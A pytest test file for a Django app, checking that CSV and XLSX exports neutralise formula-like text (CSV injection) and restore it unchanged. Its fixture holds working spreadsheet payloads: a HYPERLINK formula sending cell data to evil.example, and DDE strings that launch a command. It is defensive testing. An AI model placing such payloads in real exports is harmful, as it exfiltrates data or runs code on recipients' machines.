"""Text that a spreadsheet would run as a formula is neutralised in every CSV and XLSX export, and
reads back unchanged (OWASP CSV injection)."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from openmandato.accountability.models import Indicator
from openmandato.accountability.services import EvidenceInput, add_measurement, record_progress
from openmandato.programs.models import Action, Mandate
from openmandato.security.formulas import TRIGGERS, neutralise, restore
from openmandato.tests.fixtures import make_user

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "code": "+1",
    "text": "-2+3+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "\t=1+1",
    "indicator": "\r=2+2",
    "mandate": "=mandate",
}


@pytest.fixture
def hostile(demo):
    mandate = Mandate.objects.get(municipality__slug="valenza")
    Mandate.objects.filter(pk=mandate.pk).update(title=HOSTILE["mandate"])
    action = mandate.actions.active().leaves().order_by("pk").first()
    Action.objects.filter(pk=action.pk).update(
        title=HOSTILE["title"], code=HOSTILE["code"], text=HOSTILE["text"]
    )
    action.refresh_from_db()
    record_progress(
        action,
        user=make_user("formula-author"),
        status="in_progress",
        progress=10,
        date=datetime.date.today(),
        note=HOSTILE["note"],
        evidence=[EvidenceInput(kind="link", title=HOSTILE["source"], url="https://example.org/a")],
        system=True,
    )
    indicator = Indicator.objects.create(
        action=action,
        name=HOSTILE["indicator"],
        unit="-n",
        baseline=0,
        target=1,
        baseline_date=datetime.date(2020, 1, 1),
        target_date=datetime.date(2030, 1, 1),
    )
    add_measurement(indicator, user=None, date=datetime.date.today(), value=Decimal("-1"), system=True)
    return action


def csv_cells(path):
    body = Client().get(path).content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


@pytest.mark.parametrize(
    "path", ["/valenza/export.csv", "/valenza/export-updates.csv", "/valenza/export-measurements.csv"]
)
def test_no_csv_cell_starts_like_a_formula(hostile, path):
    cells = csv_cells(path)
    assert cells
    offending = [cell for cell in cells if cell.startswith(TRIGGERS)]
    # negative numbers are numbers, not text: a spreadsheet reads them as values
    offending = [cell for cell in offending if not _is_number(cell)]
    assert offending == []


def test_neutralised_csv_text_reads_back_as_entered(hostile):
    cells = set(csv_cells("/valenza/export.csv")) | set(csv_cells("/valenza/export-updates.csv"))
    cells |= set(csv_cells("/valenza/export-measurements.csv"))
    restored = {restore(cell) for cell in cells}
    for key in ("title", "code", "text", "note", "indicator", "mandate"):
        assert "'" + HOSTILE[key] in cells, key
        assert HOSTILE[key] in restored, key
    assert any(cell.startswith("'" + HOSTILE["source"]) for cell in cells)


def test_xlsx_holds_text_as_strings_never_formulas(hostile):
    body = Client().get("/valenza/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    values = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                values[cell.value] = cell
    for key in ("title", "code", "text", "note", "indicator", "mandate"):
        assert HOSTILE[key] in values, key  # the text exactly as entered


def test_an_unchanged_csv_with_formula_like_text_imports_as_no_change(hostile, tmp_path, capsys):
    from django.core.management import call_command

    from openmandato.core.models import Membership

    user = make_user("formula-admin")
    Membership.objects.create(user=user, municipality=hostile.mandate.municipality, role="administrator")
    path = tmp_path / "export.csv"
    path.write_bytes(Client().get("/valenza/export.csv").content)
    call_command("import_spreadsheet", "valenza", str(path), "--user", "formula-admin", "--dry-run")
    assert "Nessuna modifica." in capsys.readouterr().out


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-x", "@a", "\tx", "\rx", "'=1", "''=1", "'plain", "plain", ""]
)
def test_neutralise_and_restore_are_inverse(value):
    assert restore(neutralise(value)) == value
    assert not neutralise(value).startswith(TRIGGERS)


def test_the_data_dictionary_explains_the_quote(demo):
    body = Client().get("/valenza/dati-aperti/").content.decode()
    assert "apostrofo" in body


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
